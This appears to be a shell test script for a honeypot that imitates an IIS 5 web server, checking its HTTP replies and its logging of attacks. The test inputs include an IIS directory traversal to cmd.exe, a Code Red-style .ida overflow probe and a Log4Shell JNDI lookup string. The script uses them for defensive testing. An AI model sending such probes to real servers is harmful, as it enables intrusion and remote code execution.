#!/bin/sh
# SPDX-License-Identifier: ISC
# The IIS service: its dialogue as a browser, a scanner and a worm see it.
. tests/scripts/lib.sh
serve perl scripts/iis5.net/main.pl

ask 'GET / HTTP/1.1\r\nHost: x\r\n\r\n' 1
ok "start page" has '^HTTP/1.1 200 OK$'
ok "its title" has 'Under Construction'
is "headers in IIS's order" "$(sed '/^$/q' "$dir/answer" | cut -d: -f1 |
    tr '\n' ' ')" "HTTP/1.1 200 OK Server Date Content-Type Accept-Ranges Last-Modified ETag Content-Length  "
ok "date of RFC 9110" has '^Date: [A-Z][a-z][a-z], [0-9][0-9] [A-Z][a-z][a-z] 20[0-9][0-9] [0-9:]\{8\} GMT$'
is "length is right" "$(printf 'GET / HTTP/1.0\r\n\r\n' |
    perl tests/lib/ask.pl "$port" | awk 'b { n += length($0) + 1 } /^\r$/ { b = 1 }
    END { print n }')" "$(sed -n 's/^Content-Length: //p' "$dir/answer")"
ok "no word gives it away" no_word

ask 'HEAD / HTTP/1.1\r\nHost: x\r\n\r\nGET /no HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'
is "keep-alive: two answers" "$(count '^HTTP/1.1 ')" 2
is "HEAD has no body" "$(count 'Under Construction')" 0
ok "404 as IIS words it" has '<h1>HTTP/1.1 404 Object Not Found</h1>'
ok "close is said" has '^Connection: close$'

ask 'OPTIONS / HTTP/1.0\r\n\r\n'
ok "OPTIONS: Public" has '^Public: OPTIONS, TRACE, GET, HEAD'
ok "OPTIONS: DAV" has '^DAV: 1, 2$'
ask 'TRACE /a HTTP/1.0\r\nHost: b\r\n\r\n'
ok "TRACE" has '^TRACE /a HTTP/1.1$'
ask 'FOO / HTTP/1.1\r\nHost: x\r\n\r\n'
ok "unknown method: 501" has '^HTTP/1.1 501 Not Implemented'
ask 'GET / HTTP/1.1\r\n\r\n'
ok "1.1 without Host: 400" has '^HTTP/1.1 400 Bad Request'
ask '\r\n\r\n'
ok "empty request: 400" has '^HTTP/1.1 400 Bad Request'
ask 'GET / HTTP/9.0\r\n\r\n'
ok "other version: 505" has '^HTTP/1.1 505'

ask 'POST /x.asp HTTP/1.1\r\nHost: x\r\nContent-Length: 7\r\nConnection: close\r\n\r\na=b\tc=dGET / HTTP/1.0\r\n\r\n'
ok "POST body is read and noted" noted '"body":"a=b\\u0009c=d"'
is "nothing behind it is answered" "$(count '^HTTP/1.1 ')" 1
ask 'POST / HTTP/1.1\r\nHost: x\r\n\r\n'
ok "POST without length: 411" has '^HTTP/1.1 411'
ask 'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999\r\n\r\n'
ok "huge body: 413" has '^HTTP/1.1 413'
ask "GET /$(printf %05000d 0) HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
ok "long target is refused" has '^HTTP/1.1 4[01]'

ask 'GET /scripts/..%%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n'
ok "traversal: 404" has '^HTTP/1.1 404'
ok "traversal is noted" noted '"attack":"traversal"'
ask 'GET /default.ida?NNNN%%u9090 HTTP/1.0\r\n\r\n'
ok "worm is noted" noted '"attack":"ida_overflow"'
ask 'GET /a HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://e/a}\r\nConnection: close\r\n\r\n'
ok "jndi in a header is noted" noted '"attack":"jndi"'
ask 'GET /\033[31m\377 HTTP/1.0\r\n\r\n'
ok "notes are flat, plain, clean" notes_ok

ask 'GET / HTTP/1.0\r\n\r\n'
a=$(sed -n 's/^ETag: //p' "$dir/answer")
ask "GET / HTTP/1.0\\r\\nIf-None-Match: $a\\r\\n\\r\\n"
ok "304 for its own tag" has '^HTTP/1.1 304'
seed=fedcba9876543210 serve perl scripts/iis5.net/main.pl
ask 'GET / HTTP/1.0\r\n\r\n'
b=$(sed -n 's/^ETag: //p' "$dir/answer")
ok "another decoy, another tag" test -n "$a" -a "$a" != "$b"
# A notice of the operator's comes before anything else.
HPD_BANNER='Only <you> & für "us"' serve perl scripts/iis5.net/main.pl
want='<p>Only &#60;you&#62; &#38; f&#252;r &#34;us&#34;</p>'
for r in 'GET / HTTP/1.0' 'GET /none HTTP/1.0' 'BAD' 'GET /none'; do
	ask "$r\r\n\r\n"
	ok "notice: first in the page ($r)" test "$(tr -d '\n' <"$dir/answer" |
	    sed -n 's/.*<body[^>]*>\(<p>.*<\/p>\)\(<h1\|<table\|The\|<\/body\).*/\1/p')" = "$want"
done
ask 'GET / HTTP/1.0\r\n\r\n'
is "notice: length is right" "$(printf 'GET / HTTP/1.0\r\n\r\n' |
    perl tests/lib/ask.pl "$port" | LC_ALL=C awk 'b { n += length($0) + 1 } /^\r$/ { b = 1 }
    END { print n }')" "$(sed -n 's/^Content-Length: //p' "$dir/answer")"
finish
